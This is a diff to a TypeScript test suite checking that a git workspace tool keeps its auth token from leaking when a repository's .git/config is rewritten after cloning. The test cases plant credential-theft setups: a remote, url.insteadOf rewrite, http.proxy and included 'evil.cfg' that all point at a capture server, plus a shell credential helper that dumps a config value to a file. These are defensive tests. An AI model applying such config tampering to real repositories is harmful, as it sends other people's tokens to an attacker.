@@ -1,4 +1,6 @@
 import { chmod, mkdtemp, readFile, rm } from "node:fs/promises";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import os from "node:os";
 import path from "node:path";
 import { createGit } from "../../src/workspace/create-git.js";
@@ -133,19 +135,43 @@ describe("git over smart HTTP with a token header", () => {
     expect((err as Error).message).toContain("protected branch");
   });
 
-  it.each([
-    ["the remote URL was changed", ["remote", "set-url", "origin", "http://127.0.0.1:1/evil.git"]],
-    ["a URL rewrite was added", ["config", "url.http://127.0.0.1:1/.insteadOf", "http://127.0.0.1"]],
-    ["a proxy was configured", ["config", "http.proxy", "http://127.0.0.1:1"]],
-  ])("refuses to send the token when %s after cloning", async (_why, args) => {
-    const dir = await clone("mine");
-    await writeFiles(dir, { "a.txt": "x\n" });
-    await git.commit(dir, { paths: ["a.txt"], subject: "fix: x" });
-    await sh(dir, args);
-    const before = server.requests.length;
-    await expect(git.push({ dir, branch: "main", token: TOKEN })).rejects.toThrow(/Refusing to send credentials/);
-    await expect(git.fetch({ dir, branch: "main", token: TOKEN })).rejects.toThrow(/Refusing to send credentials/);
-    expect(server.requests.length).toBe(before);
+  describe("when the repository's scripts rewrote .git/config after cloning", () => {
+    let capture: Server;
+    let captured: string[];
+    let captureUrl: string;
+    beforeEach(async () => {
+      captured = [];
+      capture = createServer((req, res) => {
+        captured.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
+        res.writeHead(401, { "WWW-Authenticate": 'Basic realm="x"' }).end();
+      });
+      await new Promise<void>((resolve) => capture.listen(0, "127.0.0.1", resolve));
+      captureUrl = `http://127.0.0.1:${(capture.address() as AddressInfo).port}`;
+    });
+    afterEach(() => new Promise<void>((resolve) => capture.close(() => resolve())));
+
+    const configs: [string, (dir: string) => string[][]][] = [
+      ["an include.path pointing at a file that redirects the remote", (dir) => [["config", "include.path", path.join(dir, "..", "evil.cfg")]]],
+      ["the remote URL", () => [["remote", "set-url", "origin", `${captureUrl}/evil.git`], ["remote", "set-url", "--push", "origin", `${captureUrl}/evil.git`]]],
+      ["a url.insteadOf rewrite", () => [["config", `url.${captureUrl}/.insteadOf`, url.replace(/\/acme.*/, "/")]]],
+      ["an http.proxy", () => [["config", "http.proxy", captureUrl]]],
+      ["a credential helper", () => [["config", "credential.helper", `!f() { cat >/dev/null; echo "$GIT_CONFIG_VALUE_1" > ${path.join(tmp, "helper.txt")}; }; f`]]],
+    ];
+    it.each(configs)("push and fetch ignore %s: they still reach our URL, and the capture server gets nothing", async (_why, commands) => {
+      const dir = await clone("mine");
+      await writeFiles(dir, {
+        "a.txt": "x\n",
+        // What the include would pull in: every kind of redirect at once.
+        "../evil.cfg": `[url "${captureUrl}/"]\n\tinsteadOf = ${url.replace(/\/acme.*/, "/")}\n[http]\n\tproxy = ${captureUrl}\n[remote "origin"]\n\tpushurl = ${captureUrl}/evil.git\n`,
+      });
+      const c = await git.commit(dir, { paths: ["a.txt"], subject: "fix: x" });
+      for (const args of commands(dir)) await sh(dir, args);
+      await git.push({ dir, branch: "main", token: TOKEN });
+      expect(await git.fetch({ dir, branch: "main", token: TOKEN })).toBe(c.sha);
+      expect((await sh(bare, ["rev-parse", "main"])).trim()).toBe(c.sha);
+      expect(captured).toEqual([]);
+      await expect(readFile(path.join(tmp, "helper.txt"))).rejects.toThrow();
+    });
   });
 
   it("runs no hook while the token is in git's environment (a planted pre-push hook cannot read it)", async () => {
